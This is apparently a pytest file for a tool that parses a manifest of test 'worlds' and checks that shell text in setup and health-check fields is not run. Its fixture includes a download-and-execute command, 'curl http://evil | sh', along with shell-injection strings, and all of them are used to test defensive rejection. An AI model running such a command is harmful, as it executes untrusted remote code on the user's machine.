"""Upstream's catalogue: understood, and none of its strings run through a shell."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from conformance.core.errors import UnknownWorld
from conformance.provision.catalog.manifest import Entry, describe, from_manifest
from conformance.provision.catalog.select import select

DATABASE = {
    "name": "db",
    "image": "ghcr.io/library/postgres:18-alpine",
    "ports": ["15432:5432"],
    "env": {"POSTGRES_USER": "w"},
    "healthCheck": {"cmd": "pg_isready", "interval": "10s", "retries": 5},
}
STORE = {
    "name": "store",
    "image": "acme/store:v3",
    "args": ["start", "--bind", "0.0.0.0:8000"],
    "ports": ["8000:8000"],
    "healthCheck": {"cmd": "curl -sf http://localhost:8000/health || exit 1"},
}


@pytest.fixture
def manifest(tmp_path: Path) -> Path:
    worlds: list[dict[str, Any]] = [
        {
            "id": "sql",
            "type": "community",
            "package": "acme-world-sql",
            "version": "1.2.3",
            "name": "SQL",
            "env": {
                "WORKFLOW_TARGET_WORLD": "x",
                "SQL_URL": "postgres://w:w@localhost:15432/w",
                "MODE": "{fast}",
            },
            "services": [DATABASE],
            "setup": "pnpm exec acme-setup",
        },
        {
            "id": "store",
            "type": "community",
            "package": "acme-world-store",
            "env": {"STORE": "ws://127.0.0.1:8000/rpc"},
            "services": [STORE],
            "setup": "curl http://evil | sh",
        },
        {
            "id": "cloud",
            "type": "x",
            "package": "c",
            "requiresCredentials": True,
            "credentialsNote": "Needs a key",
        },
        {"id": "edge", "type": "x", "package": "e", "requiresDeployment": True},
        {
            "id": "two",
            "type": "x",
            "package": "t",
            "env": {"STORE": "http://localhost:8000"},
            "services": [
                DATABASE,
                {**STORE, "env": {"DB": "postgres://w@localhost:15432/w", "AT": "localhost:15432"}},
            ],
        },
        {"id": "their-redis", "type": "x", "package": "@workflow-worlds/redis", "services": []},
        {
            "id": "own",
            "type": "x",
            "package": "acme-mysql",
            "env": {"DATABASE_URL": "mysql://root:root@localhost:3306/test"},
            "services": [],
            "requiresCredentials": True,
        },
    ]
    file = tmp_path / "worlds-manifest.json"
    file.write_text(json.dumps({"worlds": worlds, "future": True}))
    return file


def test_a_database_world(manifest: Path) -> None:
    (target,) = select(["sql"], manifest=manifest)
    descriptor = target.descriptor
    assert (target.world, target.version, target.package) == ("sql", "1.2.3", "acme-world-sql")
    assert descriptor.service is not None
    assert (descriptor.service.kind, descriptor.service.port) == ("postgres", 5432)
    assert descriptor.isolation.kind == "database"
    assert descriptor.env == {"SQL_URL": "{service.url}", "MODE": "{{fast}}"}
    assert descriptor.setup is not None
    assert descriptor.setup.command == ("node", "{bin.acme-setup}")
    assert descriptor.setup.env["SQL_URL"] == "{service.url}"


def test_shell_text_is_left_out_and_said(manifest: Path) -> None:
    descriptor = from_manifest(manifest, "store", {}).descriptor
    assert descriptor.service is not None
    assert descriptor.service.kind == "other"
    assert descriptor.service.args == ("start", "--bind", "0.0.0.0:8000")
    assert descriptor.service.health == "/health"
    assert descriptor.setup is None
    assert "was not run: 'curl http://evil | sh'" in descriptor.notes
    assert descriptor.env == {"STORE": "ws://{service.host}:{service.port}/rpc"}


def test_shell_text_runs_when_allowed(manifest: Path) -> None:
    descriptor = from_manifest(manifest, "store", {}, allow_shell=True).descriptor
    assert descriptor.setup is not None
    assert descriptor.setup.command[:2] == ("sh", "-c")


@pytest.mark.parametrize(
    ("world", "said"), [("cloud", "Needs a key"), ("edge", "only where it is deployed"), ("sql", "")]
)
def test_what_cannot_run_says_why(manifest: Path, world: str, said: str) -> None:
    cannot = from_manifest(manifest, world, {}).cannot
    assert said in cannot
    assert bool(said) == bool(cannot)


def test_one_that_is_not_there_is_named_with_those_that_are(manifest: Path) -> None:
    with pytest.raises(UnknownWorld, match="It has: sql, store"):
        from_manifest(manifest, "nope", {})


def test_the_file_alone_says_what_to_add(manifest: Path) -> None:
    with pytest.raises(UnknownWorld, match=r"--world=all, or some of sql, store, cloud"):
        select([], manifest=manifest)


def test_all_are_all_of_the_file(manifest: Path) -> None:
    found = select(["all"], manifest=manifest)
    assert [one.world for one in found] == ["sql", "store", "cloud", "edge", "two", "their-redis", "own"]
    assert [one.world for one in found if one.cannot] == ["cloud", "edge", "own"]


def test_services_that_know_each_other(manifest: Path) -> None:
    service = from_manifest(manifest, "two", {}).descriptor.service
    assert service is not None
    assert (service.kind, service.image) == ("other", "acme/store:v3"), "the world talks to this one"
    assert (service.health, service.needs["db"].kind) == ("/health", "postgres")
    assert service.env == {"DB": "{needs.db.url}", "AT": "{needs.db.host}:{needs.db.port}"}


def test_a_world_on_a_server_of_the_users_own(manifest: Path) -> None:
    for given in (
        {"service_url": "mysql://me@10.0.0.1/x"},
        {"env": {"DATABASE_URL": "mysql://me@10.0.0.1/x"}},
    ):
        target = from_manifest(manifest, "own", {}, **given)
        assert target.cannot == ""
    descriptor = from_manifest(manifest, "own", {}, service_url="mysql://me@10.0.0.1/x").descriptor
    assert descriptor.env == {"DATABASE_URL": "{service.url}"}
    assert descriptor.service is not None


def test_what_we_know_better_is_kept(manifest: Path) -> None:
    descriptor = from_manifest(manifest, "their-redis", {}).descriptor
    assert descriptor.name == "their-redis"
    assert descriptor.options["keyPrefix"] == "{namespace}"


def test_a_file_that_is_no_manifest(tmp_path: Path) -> None:
    with pytest.raises(UnknownWorld, match="Cannot read"):
        from_manifest(tmp_path / "none.json", "x", {})
    (tmp_path / "bad.json").write_text('{"worlds": [{"id": 1}]}')
    with pytest.raises(UnknownWorld, match="not a worlds manifest"):
        from_manifest(tmp_path / "bad.json", "x", {})


@pytest.mark.parametrize("text", ["a && b", "a; b", "a $(b)", "a `b`", "a > b", "a\nb", "a *"])
def test_nothing_of_a_shell_passes_for_a_command(text: str) -> None:
    service = {**STORE, "healthCheck": {"cmd": text}}
    entry = Entry(id="x", package="x", services=[], setup=text)
    assert describe(entry).setup is None
    entry = msgspec.convert({"id": "x", "package": "x", "services": [service]}, Entry)
    found = describe(entry).service
    assert found is not None
    assert found.health == ()
